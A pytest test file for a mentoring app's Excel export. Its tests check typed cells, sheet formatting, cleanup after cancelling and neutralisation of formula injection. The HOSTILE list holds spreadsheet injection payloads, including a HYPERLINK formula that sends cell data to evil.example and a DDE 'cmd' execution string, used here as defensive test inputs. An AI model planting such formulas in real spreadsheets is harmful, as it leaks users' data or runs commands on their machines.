"""The Excel writer: typed cells, never a formula, the finish of every sheet.

Workbooks are read back with python-calamine (an independent reader) and with
openpyxl's full reader for types and settings; the raw XML is checked too.
"""

from __future__ import annotations

import tempfile
from datetime import date
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from mentordesk.domain.progress import Cancelled
from mentordesk.exporting.cells import clean_text, safe_value
from mentordesk.exporting.excel import MAX_WIDTH, WorkbookInfo, write_workbook
from mentordesk.exporting.sheets import DATE, HOURS, ID, INT, NOTE, PERCENT, Column, Sheet
from tests.exporting.readback import assert_no_formula, rows_of

HOSTILE = [
    "=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=cmd|'/c calc'!A1", "+1+2", "-3+4",
    "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "#N/A", "#DIV/0!", "=", "#REF!",
]
INFO = WorkbookInfo("Volunteers roster - Acme & Co", "Riverside Mentoring", date(2026, 3, 1))
COLUMNS = [Column("MentorDesk ID", ID), Column("Name"), Column("Date", DATE),
           Column("Minutes", INT), Column("Hours", HOURS), Column("Rate", PERCENT),
           Column("Notes", NOTE)]


def write(path: Path, rows, columns=COLUMNS, name="Volunteers", progress=None) -> dict:
    sheet = Sheet(name, "Volunteers - Acme & Co", columns, rows, len(rows))
    if progress is None:
        return write_workbook(path, [sheet], INFO)
    return write_workbook(path, [sheet], INFO, progress)


def test_hostile_text_is_stored_as_text(tmp_path):
    path = tmp_path / "hostile.xlsx"
    rows = [(i, text, None, None, None, None, text) for i, text in enumerate(HOSTILE, 1)]
    assert write(path, rows) == {"Volunteers": len(HOSTILE)}
    assert_no_formula(path)
    back = rows_of(path, "Volunteers")[1:]
    expected = [clean_text(t) for t in HOSTILE]
    assert [r[1] for r in back] == expected
    assert [r[6] for r in back] == expected
    ws = load_workbook(path)["Volunteers"]
    for row in ws.iter_rows(min_row=2):
        assert row[1].data_type == "s"
        if row[1].value.startswith("=") and len(row[1].value) > 1:
            assert row[1].quotePrefix  # Excel keeps it text even when the cell is edited


def test_typed_cells_and_exact_hours(tmp_path):
    path = tmp_path / "typed.xlsx"
    rows = [(7, "Zoë Ødegaard", date(2025, 1, 31), 50, 50 / 60, 0.125, "line one\nline two"),
            (8, "", None, 1439, 1439 / 60, None, "")]
    write(path, rows)
    back = rows_of(path, "Volunteers")
    assert back[0] == [c.header for c in COLUMNS]
    assert back[1] == list(rows[0])
    # openpyxl writes 16 significant digits (Excel keeps 15): the Minutes column is the exact one
    assert back[2][3] == 1439 and back[2][4] == pytest.approx(1439 / 60, rel=1e-15)
    ws = load_workbook(path)["Volunteers"]
    a, name, day, minutes, hours, rate, notes = ws[2]
    assert a.data_type == "n" and minutes.data_type == "n" and hours.data_type == "n"
    assert day.is_date and day.number_format == "yyyy-mm-dd"
    assert hours.number_format == "0.0" and hours.value == pytest.approx(50 / 60, rel=1e-15)
    assert rate.number_format == "0.0%"
    assert notes.alignment.wrap_text and ws.row_dimensions[2].height == 30  # two lines
    assert not name.alignment.wrap_text and ws.row_dimensions[3].height is None
    assert ws["B3"].value is None  # empty text is no cell at all


def test_every_sheet_is_finished_for_screen_and_paper(tmp_path):
    path = tmp_path / "finish.xlsx"
    write(path, [(i, f"Name {i}", date(2025, 1, i), i, i / 60, None, "") for i in range(1, 21)])
    wb = load_workbook(path)
    ws = wb["Volunteers"]
    assert all(cell.font.bold for cell in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.print_title_rows == "$1:$1"
    assert ws.page_setup.orientation == "landscape"
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    footer = ws.oddFooter
    assert footer.left.text == "Volunteers - Acme && Co"  # "&" is a code in footers
    assert footer.center.text == "Page &P of &N"
    assert "2026-03-01" in footer.right.text and "Riverside Mentoring" in footer.right.text
    (table,) = ws.tables.values()
    assert table.ref == "A1:G21"
    assert [c.name for c in table.tableColumns] == [c.header for c in COLUMNS]
    assert table.autoFilter.ref == "A1:G21"
    assert 8 <= ws.column_dimensions["B"].width <= MAX_WIDTH
    assert wb.properties.title == INFO.title and wb.properties.creator == "Riverside Mentoring"


def test_an_empty_sheet_is_still_a_valid_table(tmp_path):
    path = tmp_path / "empty.xlsx"
    assert write(path, []) == {"Volunteers": 0}
    ws = load_workbook(path)["Volunteers"]
    assert ws.tables["Volunteers"].ref == "A1:G2"
    assert rows_of(path, "Volunteers") == [[c.header for c in COLUMNS]]


def test_control_characters_are_dropped_and_line_breaks_kept(tmp_path):
    path = tmp_path / "control.xlsx"
    write(path, [(1, "bad\x00\x07name", None, None, None, None, "a\r\nb\rc")])
    assert rows_of(path, "Volunteers")[1][1] == "badname"
    assert rows_of(path, "Volunteers")[1][6] == "a\nb\nc"


def test_safe_value_works_in_a_normal_workbook_too(tmp_path):
    """What the import's rejected-rows workbook relies on."""
    wb = Workbook()
    ws = wb.active
    ws.append([safe_value(ws, text) for text in HOSTILE])
    path = tmp_path / "normal.xlsx"
    wb.save(path)
    assert_no_formula(path)
    assert rows_of(path, ws.title)[0] == [clean_text(t) for t in HOSTILE]


class StopAfter:
    def __init__(self, checks: int):
        self.left = checks

    def progress(self, done, total, text=""):
        pass

    def check(self):
        self.left -= 1
        if self.left < 0:
            raise Cancelled()


def test_cancel_removes_openpyxl_temporary_files(tmp_path, monkeypatch):
    scratch = tmp_path / "scratch"  # openpyxl's temporary files go here, not among other programs'
    scratch.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(scratch))
    rows = [(i, "x", None, i, None, None, None) for i in range(10_000)]
    with pytest.raises(Cancelled):
        write(tmp_path / "cancelled.xlsx", rows, progress=StopAfter(2))
    assert list(scratch.iterdir()) == []
    assert not (tmp_path / "cancelled.xlsx").exists()


TEXTS = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(TEXTS, min_size=1, max_size=8))
def test_any_text_reads_back_as_the_same_text(tmp_path, texts):
    path = tmp_path / "any.xlsx"
    write(path, [(i, t) for i, t in enumerate(texts)], columns=COLUMNS[:2])
    back = [r[1] for r in rows_of(path, "Volunteers")[1:]]
    # text that is only spaces and line breaks is written as an empty cell
    assert back == [clean_text(t) if clean_text(t).strip() else "" for t in texts]
    assert_no_formula(path)
